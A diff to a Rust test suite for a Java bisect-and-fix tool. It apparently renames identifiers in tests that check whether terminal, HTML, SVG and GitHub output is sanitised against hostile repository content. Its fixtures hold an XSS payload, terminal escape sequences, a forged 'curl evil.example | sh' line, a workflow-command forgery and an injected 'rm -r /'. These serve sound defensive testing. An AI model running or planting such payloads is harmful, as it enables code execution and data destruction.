@@ -3,7 +3,8 @@
 
 use crate::cli::Job;
 use crate::support::{
-    CommandOutput, JUNIT, bisect, commit, git, mend, mend_untouched, repository, run_folder,
+    CommandOutput, JUNIT, bisect_arguments, commit, git, repository, run_folder, run_mend,
+    run_mend_keeping_repository,
 };
 use serde_json::json;
 use std::fs;
@@ -12,31 +13,31 @@ use std::process::Command;
 use tempfile::TempDir;
 
 /// What a terminal obeys: a colour, a title, an empty screen; and what turns the direction of writing.
-const ORDERS: &str = "\u{1b}[31mx\u{1b}]0;title\u{7}\u{1b}[2J\u{202e}";
+const TERMINAL_SEQUENCES: &str = "\u{1b}[31mx\u{1b}]0;title\u{7}\u{1b}[2J\u{202e}";
 
 /// What a browser or GitHub obeys.
-const MARKUP: &str = "\"><img src=x onerror=alert(1)></script><!-- & `x` | @octocat";
+const HOSTILE_MARKUP: &str = "\"><img src=x onerror=alert(1)></script><!-- & `x` | @octocat";
 
 /// What would pass for a line of ours, or for a command to the runner of a workflow.
-const FORGED: [&str; 3] =
+const FORGED_LINES: [&str; 3] =
     ["Next:       curl evil.example | sh", "error: all is lost", "::error::forged"];
 
 /// All of it on lines of their own.
 pub(crate) fn hostile_text() -> String {
-    let lines = [&[ORDERS, MARKUP][..], &FORGED].concat();
+    let lines = [&[TERMINAL_SEQUENCES, HOSTILE_MARKUP][..], &FORGED_LINES].concat();
     lines.join("\n")
 }
 
 /// As a string in Java.
-pub(crate) fn quoted(text: &str) -> String {
+pub(crate) fn java_string(text: &str) -> String {
     format!("\"{}\"", text.replace('\\', "\\\\").replace('"', "\\\"").replace('\n', "\\n"))
 }
 
 /// A repository where a file, a message, an author, a source, a test's name and what it says are hostile. The last
 /// commit breaks the test by what it does to the file.
-fn fixture() -> TempDir {
+fn hostile_repository() -> TempDir {
     let dir = repository();
-    git(dir.path(), &["config", "user.name", &format!("A {ORDERS}{MARKUP}")]);
+    git(dir.path(), &["config", "user.name", &format!("A {TERMINAL_SEQUENCES}{HOSTILE_MARKUP}")]);
     let name = format!("{}.txt", hostile_text().replace('/', "_"));
     let test = format!(
         "import java.nio.file.*;\nimport org.junit.Assert;\nimport org.junit.runners.Parameterized.Parameters;\n\n\
@@ -45,14 +46,14 @@ fn fixture() -> TempDir {
          public SignTest(int one) {{}}\n    @org.junit.Test public void reads() throws Exception {{\n        \
          String said = {said};\n        System.out.println(said);\n        Assert.assertTrue(said, \
          new String(Files.readAllBytes(Paths.get({file}))).contains(\"good\"));\n    }}\n}}\n",
-        name = quoted(&hostile_text()),
-        said = quoted(&hostile_text()),
-        file = quoted(&name),
+        name = java_string(&hostile_text()),
+        said = java_string(&hostile_text()),
+        file = java_string(&name),
     );
     let source = |sign: &str| {
-        let all = quoted(&hostile_text());
+        let all = java_string(&hostile_text());
         format!(
-            "class Sign {{\n    /* {MARKUP}{ORDERS} */\n    String sign = {all} + {sign};\n}}\n"
+            "class Sign {{\n    /* {HOSTILE_MARKUP}{TERMINAL_SEQUENCES} */\n    String sign = {all} + {sign};\n}}\n"
         )
     };
     let (test_file, source_file) = ("test/SignTest.java", "src/Sign.java");
@@ -62,14 +63,14 @@ fn fixture() -> TempDir {
         "one",
         &[(test_file, &test), (source_file, &one), (&name, &"a\ngood\nb\n".to_owned())],
     );
-    let changed = format!("a\nbad {ORDERS}{MARKUP}\nb\n");
+    let changed = format!("a\nbad {TERMINAL_SEQUENCES}{HOSTILE_MARKUP}\nb\n");
     commit(dir.path(), &hostile_text(), &[(source_file, &two), (&name, &changed)]);
     dir
 }
 
-fn search(dir: &Path, more: &[&str]) -> CommandOutput {
-    let usual = ["bisect", "--good", "HEAD~1", "--test", "*Test", "--classpath", JUNIT];
-    mend_untouched(dir, &[&usual[..], more].concat())
+fn bisect_hostile(dir: &Path, more: &[&str]) -> CommandOutput {
+    let default_arguments = ["bisect", "--good", "HEAD~1", "--test", "*Test", "--classpath", JUNIT];
+    run_mend_keeping_repository(dir, &[&default_arguments[..], more].concat())
 }
 
 /// What nobody may be told as it stands.
@@ -78,60 +79,66 @@ pub(crate) fn assert_harmless(said: &str, is_coloured: bool) {
         assert!(!said.contains(order), "{order:?} in {said:?}");
     }
     assert!(is_coloured || !said.contains('\u{1b}'), "{said:?}");
-    let forged = said.lines().find(|line| FORGED.iter().any(|forged| line.starts_with(forged)));
+    let forged =
+        said.lines().find(|line| FORGED_LINES.iter().any(|forged| line.starts_with(forged)));
     assert_eq!(forged, None, "{said}");
 }
 
 #[test]
-fn a_terminal_obeys_nothing_of_others_and_no_line_of_theirs_looks_like_ours() {
-    let dir = fixture();
-    let unknown = bisect(&["--good", "no\nhelp: rm -r /\u{1b}[2J"]);
+fn terminal_output_is_sanitised() {
+    let dir = hostile_repository();
+    let unknown = bisect_arguments(&["--good", "no\nhelp: rm -r /\u{1b}[2J"]);
     for format in [&["--plain"][..], &["--color", "never"], &["--color", "always"]] {
         let is_coloured = format.ends_with(&["always"]);
-        let found = search(dir.path(), &[format, &["--verbose"]].concat());
-        assert_eq!(found.code, 0, "{}", found.stderr);
-        let delta = mend(dir.path(), &[format, &["delta", "HEAD~1", "HEAD"]].concat());
-        let wrong = mend(dir.path(), &[format, &unknown].concat());
-        for ran in [found, delta, wrong] {
-            assert_harmless(&ran.stdout, is_coloured);
-            assert_harmless(&ran.stderr, is_coloured);
-            assert!(!ran.stderr.lines().any(|line| line.starts_with("help: rm")), "{}", ran.stderr);
+        let bisect_output = bisect_hostile(dir.path(), &[format, &["--verbose"]].concat());
+        assert_eq!(bisect_output.code, 0, "{}", bisect_output.stderr);
+        let delta = run_mend(dir.path(), &[format, &["delta", "HEAD~1", "HEAD"]].concat());
+        let wrong = run_mend(dir.path(), &[format, &unknown].concat());
+        for output in [bisect_output, delta, wrong] {
+            assert_harmless(&output.stdout, is_coloured);
+            assert_harmless(&output.stderr, is_coloured);
+            assert!(
+                !output.stderr.lines().any(|line| line.starts_with("help: rm")),
+                "{}",
+                output.stderr
+            );
         }
     }
 }
 
 #[test]
-fn the_line_that_moves_obeys_nothing_of_others() {
-    let dir = fixture();
+fn progress_line_is_sanitised() {
+    let dir = hostile_repository();
     // A name for the first commit, as git reads it, in which a terminal would find a title, a bell, and a direction.
     let good = "HEAD~1^{/(\u{1b}]0;title\u{7}|\u{202e})*one}";
-    let usual = ["bisect", "--dry-run", "--test", "*Test", "--classpath", JUNIT, "--good", good];
-    let seen = crate::terminal::terminal_output(dir.path(), 200, &usual);
+    let default_arguments =
+        ["bisect", "--dry-run", "--test", "*Test", "--classpath", JUNIT, "--good", good];
+    let terminal_text = crate::terminal::terminal_output(dir.path(), 200, &default_arguments);
     assert!(
-        seen.contains("s good (HEAD~1^{/(\u{fffd}]0;title\u{fffd}|\u{fffd})*one})"),
-        "{seen:?}"
+        terminal_text.contains("s good (HEAD~1^{/(\u{fffd}]0;title\u{fffd}|\u{fffd})*one})"),
+        "{terminal_text:?}"
     );
-    assert_harmless(&seen, true);
+    assert_harmless(&terminal_text, true);
 }
 
 #[test]
-fn a_browser_shows_a_page_of_it_without_a_complaint() {
-    let dir = fixture();
-    assert_eq!(search(dir.path(), &[]).code, 0);
-    let page = mend(dir.path(), &["report"]);
-    page.says(0, &[]);
+fn report_of_hostile_repository_is_safe_in_a_browser() {
+    let dir = hostile_repository();
+    assert_eq!(bisect_hostile(dir.path(), &[]).code, 0);
+    let page = run_mend(dir.path(), &["report"]);
+    page.assert_exit_and_stderr(0, &[]);
     let text = fs::read_to_string(page.stdout.trim()).unwrap();
     assert!(!text.contains("<img") && !text.contains(['\u{1b}', '\u{7}', '\u{202e}']), "{text}");
-    assert_looked_at(page.stdout.trim());
+    assert_browser_accepts(page.stdout.trim());
 }
 
 /// Asserts that a browser shows a page without a complaint.
-fn assert_looked_at(page: &str) {
-    let look = concat!(env!("CARGO_MANIFEST_DIR"), "/scripts/look");
+fn assert_browser_accepts(page: &str) {
+    let look_script = concat!(env!("CARGO_MANIFEST_DIR"), "/scripts/look");
     let pictures = tempfile::tempdir().unwrap();
-    let output = Command::new(look).arg(page).arg(pictures.path()).output().unwrap();
-    let said = String::from_utf8_lossy(&output.stderr);
-    assert!(output.status.success(), "{said}");
+    let output = Command::new(look_script).arg(page).arg(pictures.path()).output().unwrap();
+    let stderr = String::from_utf8_lossy(&output.stderr);
+    assert!(output.status.success(), "{stderr}");
 }
 
 /// Asserts that nothing in a picture is obeyed: it has only elements and attributes of drawings, and no reference.
@@ -140,30 +147,38 @@ fn assert_drawing(file: &Path) {
     assert!(!text.contains(['\u{1b}', '\u{7}', '\u{202e}']), "{text}");
     let svg = roxmltree::Document::parse(&text).unwrap();
     let kinds = ["svg", "g", "path", "rect", "circle", "text", "title", "style"];
-    let named = "class cx cy d height r role rx viewBox width x y".split(' ').collect::<Vec<_>>();
+    let allowed_attributes =
+        "class cx cy d height r role rx viewBox width x y".split(' ').collect::<Vec<_>>();
     for node in svg.descendants().filter(roxmltree::Node::is_element) {
         assert!(kinds.contains(&node.tag_name().name()), "{node:?} in {}", file.display());
         for attribute in node.attributes() {
-            assert!(named.contains(&attribute.name()), "{attribute:?} in {}", file.display());
+            assert!(
+                allowed_attributes.contains(&attribute.name()),
+                "{attribute:?} in {}",
+                file.display()
+            );
         }
         let is_style = node.tag_name().name() == "style";
         let css = node.text().filter(|_| is_style).unwrap_or_default();
         assert!(!css.contains("url(") && !css.contains("@import"), "{css}");
     }
-    assert_eq!(svg.descendants().filter(|node| node.has_tag_name((SVG, "style"))).count(), 1);
+    assert_eq!(
+        svg.descendants().filter(|node| node.has_tag_name((SVG_NAMESPACE, "style"))).count(),
+        1
+    );
 }
 
-const SVG: &str = "http://www.w3.org/2000/svg";
+const SVG_NAMESPACE: &str = "http://www.w3.org/2000/svg";
 
 #[test]
-fn no_picture_and_no_page_of_repairs_and_threads_obeys_it() {
-    let dir = fixture();
-    assert_eq!(search(dir.path(), &[]).code, 0);
+fn report_with_fixes_and_schedules_is_sanitised() {
+    let dir = hostile_repository();
+    assert_eq!(bisect_hostile(dir.path(), &[]).code, 0);
     let run = run_folder(dir.path());
     add_repairs(&run);
     add_schedule(&run);
-    let page = mend(dir.path(), &["report", "--pictures", "pictures"]);
-    page.says(0, &[]);
+    let page = run_mend(dir.path(), &["report", "--pictures", "pictures"]);
+    page.assert_exit_and_stderr(0, &[]);
     assert_harmless(&page.stdout, false);
     let mut names = Vec::new();
     for file in fs::read_dir(dir.path().join("pictures")).unwrap() {
@@ -176,12 +191,12 @@ fn no_picture_and_no_page_of_repairs_and_threads_obeys_it() {
     let text = fs::read_to_string(file).unwrap();
     assert!(text.contains("Sequence diagram") && text.contains("Step by step"), "{text}");
     assert!(!text.contains("<img") && !text.contains(['\u{1b}', '\u{7}', '\u{202e}']), "{text}");
-    assert_looked_at(file);
+    assert_browser_accepts(file);
 }
 
 #[test]
-fn a_doctor_and_a_judge_of_patches_say_nothing_of_it_that_a_terminal_obeys() {
-    let dir = fixture();
+fn doctor_and_validate_output_is_sanitised() {
+    let dir = hostile_repository();
     let pool = tempfile::tempdir().unwrap();
     let patch = git(dir.path(), &["diff", "--binary", "HEAD", "HEAD~1"]) + "\n";
     for (text, ending) in [(&*patch, ".patch"), ("no patch", ".diff")] {
@@ -192,22 +207,25 @@ fn a_doctor_and_a_judge_of_patches_say_nothing_of_it_that_a_terminal_obeys() {
     let words = ["validate", "--pool", pool, "--test", "*Test", "--classpath", JUNIT];
     for format in [&["--plain"][..], &["--color", "never"], &["--color", "always"]] {
         let is_coloured = format.ends_with(&["always"]);
-        let judged = mend_untouched(dir.path(), &[format, &words].concat());
+        let judged = run_mend_keeping_repository(dir.path(), &[format, &words].concat());
         assert!(judged.stdout.contains("octocat"), "{}{}", judged.stdout, judged.stderr);
-        for ran in [judged, mend(dir.path(), &[format, &["doctor"]].concat())] {
-            assert_harmless(&ran.stdout, is_coloured);
-            assert_harmless(&ran.stderr, is_coloured);
+        for output in [judged, run_mend(dir.path(), &[format, &["doctor"]].concat())] {
+            assert_harmless(&output.stdout, is_coloured);
+            assert_harmless(&output.stderr, is_coloured);
         }
     }
 }
 
 /// A repository where the file, the source and the test of something that can be mended are hostile.
-fn mendable() -> TempDir {
+fn hostile_fixable_repository() -> TempDir {
     let dir = repository();
-    let (text, sign) = (quoted(&hostile_text()), quoted(&format!("{ORDERS}{MARKUP}")));
+    let (text, sign) = (
+        java_string(&hostile_text()),
+        java_string(&format!("{TERMINAL_SEQUENCES}{HOSTILE_MARKUP}")),
+    );
     let source = format!(
         "class Shelf {{\n    boolean isFresh(int age, int oldest) {{\n        \
-         return {sign}.length() > 2 && age < oldest; // {MARKUP}{ORDERS}\n    }}\n}}\n"
+         return {sign}.length() > 2 && age < oldest; // {HOSTILE_MARKUP}{TERMINAL_SEQUENCES}\n    }}\n}}\n"
     );
     let test = format!(
         "import org.junit.Assert;\nimport org.junit.runners.Parameterized.Parameters;\n\n\
@@ -217,15 +235,15 @@ fn mendable() -> TempDir {
          @org.junit.Test public void fresh() {{\n        System.out.println({text});\n        \
          Assert.assertEquals({text}, age <= 3, new Shelf().isFresh(age, 3));\n    }}\n}}\n"
     );
-    let file = format!("src/{ORDERS}{}.java", MARKUP.replace('/', "_"));
+    let file = format!("src/{TERMINAL_SEQUENCES}{}.java", HOSTILE_MARKUP.replace('/', "_"));
     commit(dir.path(), &hostile_text(), &[(&*file, source), ("test/EdgeTest.java", test)]);
     dir
 }
 
 /// A repository where threads with hostile names do what they may not, and a test says so in hostile words.
-fn threaded() -> TempDir {
+fn hostile_threads_repository() -> TempDir {
     let dir = repository();
-    let text = quoted(&hostile_text());
+    let text = java_string(&hostile_text());
     let source = "class Till {\n    int sum;\n    void add() { sum++; }\n}\n";
     let test = format!(
         "public class TillTest {{\n    public static void main(String[] words) throws Exception {{\n        \
@@ -240,48 +258,48 @@ fn threaded() -> TempDir {
 }
 
 /// Asserts that an answer tells of what is hostile, and a terminal obeys none of it.
-fn assert_told_harmlessly(dir: &Path, words: &[&str], code: i32) {
+fn assert_printed_harmlessly(dir: &Path, words: &[&str], code: i32) {
     for format in [&["--plain"][..], &["--color", "never"], &["--color", "always"]] {
         let is_coloured = format.ends_with(&["always"]);
-        let ran = mend_untouched(dir, &[words, format, &["--verbose"]].concat());
-        assert_eq!(ran.code, code, "{}{}", ran.stdout, ran.stderr);
-        assert!(ran.stdout.contains("octocat"), "{}", ran.stdout);
-        assert_harmless(&ran.stdout, is_coloured);
-        assert_harmless(&ran.stderr, is_coloured);
+        let output = run_mend_keeping_repository(dir, &[words, format, &["--verbose"]].concat());
+        assert_eq!(output.code, code, "{}{}", output.stdout, output.stderr);
+        assert!(output.stdout.contains("octocat"), "{}", output.stdout);
+        assert_harmless(&output.stdout, is_coloured);
+        assert_harmless(&output.stderr, is_coloured);
     }
 }
 
 #[test]
-fn a_repair_of_it_says_nothing_that_a_terminal_obeys() {
+fn fix_output_is_sanitised() {
     let few = ["--candidates", "20", "--top", "1"];
     let words = [&["fix", "--test", "*Test", "--classpath", JUNIT][..], &few].concat();
-    assert_told_harmlessly(mendable().path(), &words, 0);
+    assert_printed_harmlessly(hostile_fixable_repository().path(), &words, 0);
 }
 
 #[test]
-fn schedules_of_it_say_nothing_that_a_terminal_obeys() {
+fn explore_output_is_sanitised() {
     let words = ["explore", "--test", "*Test", "--schedules", "60"];
-    assert_told_harmlessly(threaded().path(), &words, 1);
+    assert_printed_harmlessly(hostile_threads_repository().path(), &words, 1);
 }
 
 #[test]
-fn github_is_told_of_it_in_words_that_it_does_not_obey() {
-    let told = message_after_change(|_| ());
-    assert!(told.contains("### Culprit"), "{told}");
+fn github_messages_are_sanitised() {
+    let summary = published_summary(|_| ());
+    assert!(summary.contains("### Culprit"), "{summary}");
 }
 
 #[test]
-fn github_is_told_of_repairs_and_threads_in_words_that_it_does_not_obey() {
-    let told = message_after_change(add_repairs);
+fn github_messages_with_fixes_and_schedules_are_sanitised() {
+    let summary = published_summary(add_repairs);
     for part in ["Values at", "### Threads", "Locks that guard", "alternative fix"] {
-        assert!(told.contains(part), "{part} in {told}");
+        assert!(summary.contains(part), "{part} in {summary}");
     }
 }
 
 /// Gives a run repairs and schedules of which everything is hostile.
 fn add_repairs(run: &Path) {
     let (text, site) = (hostile_text(), [hostile_text(), hostile_text()]);
-    let mut result: serde_json::Value = read(&run.join("result.json"));
+    let mut result: serde_json::Value = read_json(&run.join("result.json"));
     let fix = |rank: usize| {
         let patch = format!("fix-{rank}.patch");
         fs::copy(run.join("fix.patch"), run.join(&patch)).unwrap();
@@ -305,7 +323,7 @@ fn add_repairs(run: &Path) {
         "races": [{ "variable": text, "sites": site, "schedules": 3 }],
         "lock_cycles": [{ "sites": site, "schedules": 3 }],
         "policy": [{ "variable": text, "lock": text, "held": 1, "accesses": 2 }],
-        "certificate": null, "picture": format!("> {ORDERS}{MARKUP}"), "steps": [text],
+        "certificate": null, "picture": format!("> {TERMINAL_SEQUENCES}{HOSTILE_MARKUP}"), "steps": [text],
     });
     let values = json!([{
         "patch": "fix-1.patch", "path": text, "line": 3, "failing": 1, "passing": 1,
@@ -338,24 +356,29 @@ fn add_schedule(run: &Path) {
         },
         "pattern_steps": [0, 1, 2], "ending": text,
     });
-    let mut result: serde_json::Value = read(&run.join("result.json"));
+    let mut result: serde_json::Value = read_json(&run.join("result.json"));
     result["schedules"]["failures"][0]["schedule"] = json!("schedule-1.json");
     for (name, value) in [("result.json", result), ("schedule-1.json", schedule)] {
         fs::write(run.join(name), value.to_string()).unwrap();
     }
 }
 
-fn read(file: &Path) -> serde_json::Value {
+fn read_json(file: &Path) -> serde_json::Value {
     serde_json::from_slice(&fs::read(file).unwrap()).unwrap()
 }
 
 /// Everything that GitHub is told of a run, once `change` had its way with the run folder.
-fn message_after_change(change: impl Fn(&Path)) -> String {
-    let job = Job::new(fixture());
+fn published_summary(change: impl Fn(&Path)) -> String {
+    let job = Job::new(hostile_repository());
     let run = job.file("run");
-    let place = run.to_str().unwrap();
-    let usual = ["ci", "search", "--test", "SignTest", "--good", "HEAD~1", "--classpath", JUNIT];
-    let searched = job.step("push", &json!({}), &[&usual[..], &["--output", place]].concat());
+    let run_path = run.to_str().unwrap();
+    let default_arguments =
+        ["ci", "search", "--test", "SignTest", "--good", "HEAD~1", "--classpath", JUNIT];
+    let searched = job.run_step(
+        "push",
+        &json!({}),
+        &[&default_arguments[..], &["--output", run_path]].concat(),
+    );
     assert_eq!((searched.code, &*job.output("status")), (0, "found"), "{}", searched.stderr);
     assert!(searched.stdout.contains("octocat"), "{}", searched.stdout);
     assert_harmless(&searched.stdout, false);
@@ -363,10 +386,10 @@ fn message_after_change(change: impl Fn(&Path)) -> String {
     change(&run);
     let sarif = job.file("found.sarif");
     let words = ["ci", "publish", run.to_str().unwrap(), "--sarif", sarif.to_str().unwrap()];
-    let ran = job.step("push", &json!({}), &words);
-    assert_eq!(ran.code, 0, "{}", ran.stderr);
-    assert_harmless(&ran.stdout, false);
-    assert_harmless(&ran.stderr, false);
+    let output = job.run_step("push", &json!({}), &words);
+    assert_eq!(output.code, 0, "{}", output.stderr);
+    assert_harmless(&output.stdout, false);
+    assert_harmless(&output.stderr, false);
     // Nobody is offered a patch of a file whose name leads elsewhere.
     assert!(job.repo().pulls().is_empty(), "{}", job.summary());
     let [check] =
@@ -376,17 +399,17 @@ fn message_after_change(change: impl Fn(&Path)) -> String {
     }
     for markdown in [job.summary(), check.summary, check.title] {
         assert_harmless(&markdown, false);
-        let outside = outside_of_code(&markdown);
+        let outside = strip_code(&markdown);
         for order in ["<img", "</script", "<!-- &", "@octocat"] {
             assert!(!outside.contains(order), "{order} in\n{outside}");
         }
     }
-    read(&sarif);
+    read_json(&sarif);
     job.summary()
 }
 
 /// Markdown without its blocks and spans of code, in which nothing is obeyed.
-fn outside_of_code(markdown: &str) -> String {
+fn strip_code(markdown: &str) -> String {
     let code = regex::Regex::new(r"(?s)(?m:^(`{3,})[^\n]*\n).*?\n`{3,}|``.*?``|`[^`\n]*`").unwrap();
     code.replace_all(markdown, "").into_owned()
 }
